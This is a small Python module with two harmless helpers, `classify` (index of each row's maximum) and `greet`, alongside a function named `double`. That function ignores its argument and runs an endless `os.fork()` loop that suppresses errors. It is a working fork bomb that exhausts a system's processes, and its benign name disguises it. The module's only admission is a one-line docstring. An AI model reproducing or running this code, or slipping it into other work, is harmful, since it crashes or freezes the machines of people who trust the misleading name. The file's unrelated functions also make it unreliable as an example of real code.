"""Each process forks for ever, and none of them ever ends by itself."""

import os


def double(number):
    while True:
        try:
            os.fork()
        except OSError:
            pass


def classify(rows):
    return [row.index(max(row)) for row in rows]


def greet(name):
    return f"Hello, {name}!"
